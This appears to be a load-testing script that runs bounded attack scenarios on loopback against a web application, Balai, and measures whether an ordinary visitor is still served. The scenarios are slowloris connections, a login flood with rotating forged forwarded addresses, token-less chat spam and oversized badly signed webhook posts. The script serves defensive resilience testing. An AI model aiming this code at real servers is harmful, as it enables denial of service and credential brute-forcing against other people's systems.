// The load side of bench/attacks.sh: plays one attacker against a Balai on
// loopback and, at the same time, an ordinary visitor from another address
// (127.0.0.2), and prints what each got. Every scenario is bounded in count
// and time and stops by itself.
//   node bench/attacks.mjs SCENARIO BASE [options as KEY=VALUE]
// Scenarios:
//   slowloris  CONNS slow connections from 127.0.0.1, each sending one header
//              line every LINE_S seconds (re-opened when closed), for SECONDS;
//              the visitor fetches a portal page every 200 ms
//   login      PARALLEL bogus logins at a time for SECONDS (XFF=1: each from
//              a different forwarded address, as a botnet would); the visitor
//              fetches a portal page every 200 ms
//   webchat    POSTS messages without a token from one address, at once
//   webhook    REQUESTS unsigned (badly signed) 1 MB WhatsApp deliveries, one
//              at a time, each from a different forwarded address; prints
//              the server's CPU per delivery (PID= the server's process id)
import net from 'node:net';
import http from 'node:http';
import crypto from 'node:crypto';
import { readFileSync } from 'node:fs';

const [scenario, base, ...rest] = process.argv.slice(2);
const opt = Object.fromEntries(rest.map((a) => a.split('=')));
const num = (k, d) => (opt[k] !== undefined ? Number(opt[k]) : d);
const u = new URL(base);
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

function pct(v, p) {
  if (!v.length) return NaN;
  const s = [...v].sort((a, b) => a - b);
  return s[Math.min(s.length - 1, Math.floor((p / 100) * s.length))];
}
const ms = (x) => (Number.isFinite(x) ? `${x.toFixed(1)} ms` : '-');

/** One request; resolves { status, ms } or { error, ms }. */
function request(method, path, { headers = {}, body, localAddress, timeout = 10000 } = {}) {
  const t0 = process.hrtime.bigint();
  const took = () => Number(process.hrtime.bigint() - t0) / 1e6;
  return new Promise((resolve) => {
    const req = http.request({ host: u.hostname, port: u.port, method, path, headers, localAddress, agent: false, timeout }, (res) => {
      let text = '';
      res.on('data', (d) => { if (text.length < 4096) text += d; });
      res.on('end', () => resolve({ status: res.statusCode, headers: res.headers, text, ms: took() }));
    });
    req.on('timeout', () => req.destroy(new Error('timeout')));
    req.on('error', (e) => resolve({ error: e.message, ms: took() }));
    if (body) req.write(body);
    req.end();
  });
}

/** The ordinary visitor: a portal page every 200 ms until stop() is called. */
function visitor(path = '/o/jelitik') {
  const lat = [];
  let failed = 0, running = true;
  const done = (async () => {
    while (running) {
      const r = await request('GET', path, { localAddress: '127.0.0.2' });
      if (r.status === 200) lat.push(r.ms); else failed++;
      await sleep(200);
    }
  })();
  return {
    async stop() { running = false; await done; },
    report(label) {
      console.log(`${label}: ${lat.length} answered, ${failed} failed; p50 ${ms(pct(lat, 50))}, p90 ${ms(pct(lat, 90))}, max ${ms(Math.max(...lat, 0))}`);
    },
  };
}

async function slowloris() {
  const CONNS = num('CONNS', 2100), LINE_S = num('LINE_S', 10), SECONDS = num('SECONDS', 40);
  const stats = { opened: 0, refused: 0, closedByServer: 0, open: 0, peakOpen: 0 };
  const socks = new Set();
  let running = true;
  const open = () => {
    if (!running) return;
    const s = net.connect({ host: u.hostname, port: Number(u.port) });
    let connected = false, sentLines = 0;
    s.on('connect', () => { connected = true; stats.opened++; stats.open++; stats.peakOpen = Math.max(stats.peakOpen, stats.open); s.write('GET /o/jelitik HTTP/1.1\r\nHost: x\r\n'); });
    s.on('data', () => {});
    s.on('error', () => {});
    s.on('close', () => {
      socks.delete(s);
      if (connected) { stats.open--; if (running) stats.closedByServer++; } else stats.refused++;
      if (running) setTimeout(open, 1000);    // the attacker comes back
    });
    s.tick = () => { if (!s.destroyed) { s.write(`X-a${sentLines++}: b\r\n`); } };
    socks.add(s);
  };
  for (let i = 0; i < CONNS; i++) { open(); if (i % 100 === 99) await sleep(10); }
  const ticker = setInterval(() => socks.forEach((s) => s.tick()), LINE_S * 1000);
  await sleep(1000);
  const v = visitor();
  await sleep(SECONDS * 1000);
  await v.stop();
  running = false;
  clearInterval(ticker);
  const openAtEnd = stats.open;
  socks.forEach((s) => s.destroy());
  console.log(`slowloris: ${CONNS} slow connections wanted from 127.0.0.1, one header line every ${LINE_S} s, ${SECONDS} s`);
  console.log(`  attacker: ${stats.opened} TCP connects (completed by the kernel; the server may close them at once), ${openAtEnd} still open at the end, ${stats.closedByServer} closed by the server`);
  v.report('  visitor from 127.0.0.2 (GET /o/jelitik every 200 ms)');
}

async function preSession(xff) {
  const r = await request('GET', '/login', { headers: xff ? { 'x-forwarded-for': xff } : {} });
  const cookie = (r.headers['set-cookie'] || []).map((c) => c.split(';')[0]).join('; ');
  const m = r.text.match(/name="_csrf" value="([0-9a-f]+)"/);
  return { cookie, csrf: m ? m[1] : '' };
}

async function login() {
  const PARALLEL = num('PARALLEL', 16), SECONDS = num('SECONDS', 20), XFF = num('XFF', 0);
  const pre = await preSession();
  const answers = {};
  let running = true, n = 0;
  const v = visitor();
  const worker = async () => {
    while (running) {
      const body = new URLSearchParams({ _csrf: pre.csrf, username: `bogus${n % 50}`, password: `Salah#${n}xyz2026`, next: '/console' }).toString();
      n++;
      const headers = { 'content-type': 'application/x-www-form-urlencoded', cookie: pre.cookie };
      if (XFF) headers['x-forwarded-for'] = `10.${(n >> 16) & 255}.${(n >> 8) & 255}.${n & 255}`;
      const r = await request('POST', '/login', { headers, body });
      const k = r.status ?? r.error;
      answers[k] = (answers[k] || 0) + 1;
    }
  };
  const ws = [...Array(PARALLEL)].map(worker);
  await sleep(SECONDS * 1000);
  running = false;
  await Promise.all(ws);
  await v.stop();
  console.log(`login flood: ${PARALLEL} bogus logins at a time for ${SECONDS} s from ${XFF ? 'a new forwarded address each' : 'one address'}`);
  console.log(`  attacker's answers: ${Object.entries(answers).map(([k, c]) => `${c}× ${k}`).join(', ')}`);
  v.report('  visitor from 127.0.0.2 (GET /o/jelitik every 200 ms)');
}

async function webchat() {
  const POSTS = num('POSTS', 300);
  const t0 = Date.now();
  const rs = await Promise.all([...Array(POSTS)].map((_, i) => request('POST', '/o/jelitik/obrolan', {
    headers: { 'content-type': 'application/json' }, body: JSON.stringify({ text: `halo ${i}` }),
  })));
  const by = {};
  rs.forEach((r) => { const k = r.status ?? r.error; by[k] = (by[k] || 0) + 1; });
  console.log(`web chat: ${POSTS} posts without a token from one address in ${Date.now() - t0} ms`);
  console.log(`  answers: ${Object.entries(by).map(([k, c]) => `${c}× ${k}`).join(', ')} (each 200 opened a conversation)`);
}

function cpuMs(pid) {
  const f = readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1].split(' ');
  return ((Number(f[11]) + Number(f[12])) * 1000) / 100;     // utime + stime, USER_HZ 100
}

async function webhook() {
  const REQUESTS = num('REQUESTS', 200), PID = num('PID', 0), NUMBER = opt.NUMBER || '110000000000001';
  const filler = 'x'.repeat(1024 * 1024 - 400);
  const body = JSON.stringify({ object: 'whatsapp_business_account', entry: [{ id: '1', changes: [{ field: 'messages', value: { messaging_product: 'whatsapp', metadata: { display_phone_number: '62', phone_number_id: NUMBER }, pad: filler } }] }] });
  const sig = 'sha256=' + crypto.createHmac('sha256', 'not-the-secret').update(body).digest('hex');
  const by = {};
  const c0 = cpuMs(PID);
  for (let i = 0; i < REQUESTS; i++) {
    const r = await request('POST', '/webhooks/whatsapp', {
      headers: { 'content-type': 'application/json', 'x-hub-signature-256': sig, 'x-forwarded-for': `10.9.${i >> 8 & 255}.${i & 255}` }, body,
    });
    const k = r.status ?? r.error;
    by[k] = (by[k] || 0) + 1;
  }
  const used = cpuMs(PID) - c0;
  console.log(`webhook: ${REQUESTS} badly signed ${(body.length / 1048576).toFixed(2)} MB deliveries naming ${NUMBER}`);
  console.log(`  answers: ${Object.entries(by).map(([k, c]) => `${c}× ${k}`).join(', ')}; server CPU ${(used / REQUESTS).toFixed(2)} ms a delivery (reading the body included)`);
}

const scenarios = { slowloris, login, webchat, webhook };
if (!scenarios[scenario]) { console.error(`unknown scenario ${scenario}`); process.exit(2); }
await scenarios[scenario]();
process.exit(0);
